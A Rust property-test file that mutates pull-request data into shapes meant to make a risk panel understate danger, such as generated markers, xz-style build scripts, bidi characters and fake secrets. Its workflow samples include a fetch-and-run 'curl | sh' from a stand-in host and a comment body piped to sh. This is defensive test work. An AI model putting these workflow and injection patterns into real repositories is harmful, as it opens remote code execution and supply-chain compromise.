//! Mutations toward the shapes a PR author uses to make the panel understate risk: generated
//! markers (on added and on removed lines), vendored and `dist` paths, files without patches,
//! text-named binaries, binaries together with build scripts (the xz pattern), renames into
//! `tests/`, the PR's own `.gitattributes`, the page's collapsed files, a truncated file list;
//! and, for the supply-chain scans, workflow YAML variants, secret-shaped lines and bidi or
//! zero-width characters in patches and file names. Each shape is applied to a real bundle, and
//! the invariants of `check_signal` hold for the result (no panic; a high finding never ends in
//! approve; a critical finding is critical).

use proptest::prelude::*;
use serde_json::{json, Value};

/// Workflow snippets in the syntax variants line readers miss (flow mappings, quoted values,
/// bracket access, `toJSON`, `env:` indirection, `pull_request_target` with a merge SHA).
const WORKFLOW_VARIANTS: &[&str] = &[
    "on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with: { ref: \"${{ github.event.pull_request.head.sha }}\" }",
    "on: [pull_request_target]\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: '${{ github.event.pull_request.merge_commit_sha }}'",
    "on: pull_request\njobs:\n  a:\n    steps:\n      - run: echo \"${{ github.event['pull_request']['title'] }}\"",
    "on: issue_comment\njobs:\n  a:\n    env:\n      BODY: ${{ toJSON(github.event.comment.body) }}\n    steps:\n      - run: echo $BODY | sh",
    "on: pull_request\npermissions: write-all\njobs:\n  a:\n    steps:\n      - run: \"sh -c \\\"$(curl -fsSL https://x.example/i.sh)\\\"\"",
];

/// Build scripts of several ecosystems (the xz pattern pairs one with an opaque file).
const BUILD_SCRIPTS: &[&str] = &[
    "m4/build-to-host.m4",
    "configure.ac",
    "Makefile.am",
    "src/Makefile.in",
    "CMakeLists.txt",
    "build.rs",
    "Dockerfile",
];

/// Characters that render as nothing or reorder text (Trojan Source, CVE-2021-42574).
const INVISIBLE: &[char] = &['\u{202E}', '\u{2066}', '\u{2069}', '\u{200B}', '\u{FEFF}'];

#[derive(Debug, Clone)]
pub(crate) enum Shape {
    /// A generated-code marker as the first line of a file's patch (added or removed).
    GeneratedMarker { file: usize, added: bool },
    /// The file moves under a directory that looks vendored or built.
    VendoredPath { file: usize, prefix: usize },
    /// GitHub's patch is gone but the additions stay.
    Patchless(usize),
    /// A text-named file GitHub shows as binary (no patch, no counts).
    TextNamedBinary(usize),
    /// An opaque test file and a build script arrive together.
    XzPattern { script: usize },
    /// The file is a rename from a sensitive path into `tests/`.
    RenameIntoTests(usize),
    /// The PR adds `.gitattributes` claiming every file generated and diff-less.
    OwnAttributes,
    /// The page collapses every listed file as generated.
    PageCollapsesAll,
    /// GitHub's list stops short of the PR's `changed_files`.
    Truncated(u32),
    /// A workflow in one of the syntax variants.
    Workflow(usize),
    /// A secret-shaped added line (built at run time, never a literal in the repository).
    SecretLine(usize),
    /// Invisible or bidi characters in a patch line and a file name.
    Invisible { file: usize, character: usize },
}

pub(crate) fn shape() -> impl Strategy<Value = Shape> {
    let file = || 0usize..64;
    prop_oneof![
        (file(), any::<bool>()).prop_map(|(file, added)| Shape::GeneratedMarker { file, added }),
        (file(), 0usize..4).prop_map(|(file, prefix)| Shape::VendoredPath { file, prefix }),
        file().prop_map(Shape::Patchless),
        file().prop_map(Shape::TextNamedBinary),
        (0..BUILD_SCRIPTS.len()).prop_map(|script| Shape::XzPattern { script }),
        file().prop_map(Shape::RenameIntoTests),
        Just(Shape::OwnAttributes),
        Just(Shape::PageCollapsesAll),
        (1u32..5_000).prop_map(Shape::Truncated),
        (0..WORKFLOW_VARIANTS.len()).prop_map(Shape::Workflow),
        file().prop_map(Shape::SecretLine),
        (file(), 0..INVISIBLE.len())
            .prop_map(|(file, character)| Shape::Invisible { file, character }),
    ]
}

fn added_file(name: &str, patch: Option<String>, additions: u64) -> Value {
    let mut file =
        json!({"filename": name, "status": "added", "additions": additions, "deletions": 0});
    if let Some(patch) = patch {
        file["patch"] = json!(patch);
    }
    file
}

/// The bundle's file list (created when missing) and one of its files, if any.
fn files(bundle: &mut Value) -> &mut Vec<Value> {
    if !bundle["files"].is_array() {
        bundle["files"] = json!([]);
    }
    bundle["files"].as_array_mut().expect("an array")
}

fn pick(bundle: &mut Value, index: usize) -> Option<&mut Value> {
    let list = files(bundle);
    let count = list.len();
    list.get_mut(index.checked_rem(count)?)
        .filter(|file| file.is_object())
}

pub(crate) fn apply_shape(bundle: &mut Value, shape: &Shape) {
    match shape {
        Shape::GeneratedMarker { file, added } => {
            if let Some(file) = pick(bundle, *file) {
                let sign = if *added { '+' } else { '-' };
                let rest = file["patch"].as_str().unwrap_or("").to_string();
                let body = rest.split_once('\n').map_or("", |(_, body)| body);
                file["patch"] = json!(format!(
                    "@@ -1,3 +1,3 @@\n{sign}// @generated by fuzz\n{body}"
                ));
            }
        }
        Shape::VendoredPath { file, prefix } => {
            let prefix = ["vendor/", "dist/", "ios/Pods/", "third_party/"][*prefix % 4];
            if let Some(file) = pick(bundle, *file) {
                let name = file["filename"].as_str().unwrap_or("x.js").to_string();
                file["filename"] = json!(format!("{prefix}{name}"));
            }
        }
        Shape::Patchless(file) => {
            if let Some(file) = pick(bundle, *file) {
                if let Some(object) = file.as_object_mut() {
                    object.remove("patch");
                    object.insert("additions".into(), json!(250));
                }
            }
        }
        Shape::TextNamedBinary(file) => {
            if let Some(file) = pick(bundle, *file) {
                if let Some(object) = file.as_object_mut() {
                    object.remove("patch");
                    object.insert("additions".into(), json!(0));
                    object.insert("deletions".into(), json!(0));
                    object.insert("status".into(), json!("added"));
                    object.insert("filename".into(), json!("tests/files/sample-1.txt"));
                }
            }
        }
        Shape::XzPattern { script } => {
            let list = files(bundle);
            list.push(added_file("tests/files/bad-3-corrupt_lzma2.xz", None, 0));
            list.push(added_file(
                BUILD_SCRIPTS[*script % BUILD_SCRIPTS.len()],
                Some("@@ -0,0 +1 @@\n+gl_path_map='tr \"\\t \\-_\" \" \\t_\\-\"'".into()),
                1,
            ));
        }
        Shape::RenameIntoTests(file) => {
            if let Some(file) = pick(bundle, *file) {
                file["previous_filename"] = json!("src/auth/session.py");
                file["filename"] = json!("tests/fixtures/session.py");
                file["status"] = json!("renamed");
            }
        }
        Shape::OwnAttributes => files(bundle).push(added_file(
            ".gitattributes",
            Some("@@ -0,0 +1,2 @@\n+* linguist-generated\n+* -diff".into()),
            2,
        )),
        Shape::PageCollapsesAll => {
            let names: Vec<Value> = files(bundle)
                .iter()
                .filter_map(|file| file.get("filename").cloned())
                .collect();
            bundle["page"] = json!({"generated_files": names, "viewed_files": []});
        }
        Shape::Truncated(extra) => {
            let listed = files(bundle).len() as u64;
            if bundle["pull"].is_object() {
                bundle["pull"]["changed_files"] = json!(listed + u64::from(*extra));
                bundle["pull"]["additions"] = json!(u64::from(*extra) * 40);
            }
        }
        Shape::Workflow(variant) => files(bundle).push(added_file(
            ".github/workflows/fuzz.yml",
            Some(format!(
                "@@ -0,0 +1,9 @@\n{}",
                WORKFLOW_VARIANTS[*variant % WORKFLOW_VARIANTS.len()]
                    .lines()
                    .map(|line| format!("+{line}"))
                    .collect::<Vec<_>>()
                    .join("\n")
            )),
            9,
        )),
        Shape::SecretLine(file) => {
            let secret = match file % 3 {
                0 => format!("aws_secret = \"AKIA{}\"", "Q".repeat(16)),
                1 => format!("token: ghp_{}", "x1".repeat(18)),
                _ => format!("-----BEGIN {} PRIVATE KEY-----", "RSA"),
            };
            if let Some(file) = pick(bundle, *file) {
                let patch = file["patch"]
                    .as_str()
                    .unwrap_or("@@ -0,0 +1 @@")
                    .to_string();
                file["patch"] = json!(format!("{patch}\n+{secret}"));
            }
        }
        Shape::Invisible { file, character } => {
            let mark = INVISIBLE[*character % INVISIBLE.len()];
            if let Some(file) = pick(bundle, *file) {
                let name = file["filename"].as_str().unwrap_or("a.rs").to_string();
                file["filename"] = json!(format!("{mark}{name}"));
                let patch = file["patch"]
                    .as_str()
                    .unwrap_or("@@ -0,0 +1 @@")
                    .to_string();
                file["patch"] = json!(format!("{patch}\n+if (admin{mark}) {{ grant(); }}"));
            }
        }
    }
}
